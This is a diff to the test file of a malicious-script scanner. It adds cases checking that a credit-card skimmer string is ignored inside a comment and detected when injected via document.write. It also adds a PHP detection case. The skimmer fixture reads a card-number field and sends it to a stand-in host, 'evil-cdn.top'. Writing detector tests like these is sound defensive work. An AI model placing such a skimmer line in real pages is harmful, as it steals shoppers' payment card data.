@@ -125,6 +125,24 @@ test('a script file with <script> in its strings is clean when it is, and its st
   assert.ok(found.some((f) => f.rule === 'js-card-exfiltration'));
 });
 
+test('a <script> in a comment or a regular expression of a script file is not read; tags after it still are', () => {
+  const steal =
+    'var n = document.getElementById("cc_number").value; new Image().src = "https://evil-cdn.top/c?d=" + btoa(n);';
+  const strip = `var Parser = { strip: function (h) { return h.replace(/<script[^>]*>([\\S\\s]*?)<\\/script>/gi, ''); } };`;
+  // Commented out, the skimmer runs nothing.
+  const commented = `/* What strip() removes: <script>${steal}</script> */
+${strip}
+document.write('<script src="/js/app.js"><\\/script>');
+`;
+  assert.deepEqual(analyseScriptFile(commented), []);
+  // The regular expression's tag would run on to the file's end and swallow the tags after it:
+  // a tag written from a template with an expression is read as the script it is.
+  const written = `${strip}
+var id = 1; document.write(\`<div id="\${id}"></div><script>${steal}</script>\`);
+`;
+  assert.ok(analyseScriptFile(written).some((x) => x.id === 'js-card-exfiltration'));
+});
+
 test('readHeadReused reads what readHead reads, into one buffer, and refuses symlinks', () => {
   const dir = mkdtempSync(join(tmpdir(), 'ripcord-readhead-'));
   try {
@@ -161,6 +179,9 @@ class Names
     quiet.replace('return sprintf', "array_map('assert', [$a]); return sprintf"),
     // "{$f()}" calls from inside a string.
     quiet.replace('"$a(x)"', '"{$a(1)}"'),
+    // A `<?` in a string far past the first ones (the next `<?` is remembered, not searched per
+    // string): the reading of the `$callback(` in the comment after it is unsure, so it counts.
+    quiet.replace("'%s: include %s'", "'%s: include %s', 'x', 'y', '<?'"),
   ];
   for (const text of loud) assert.equal(analysePhp(text).parsed, true, text);
 });
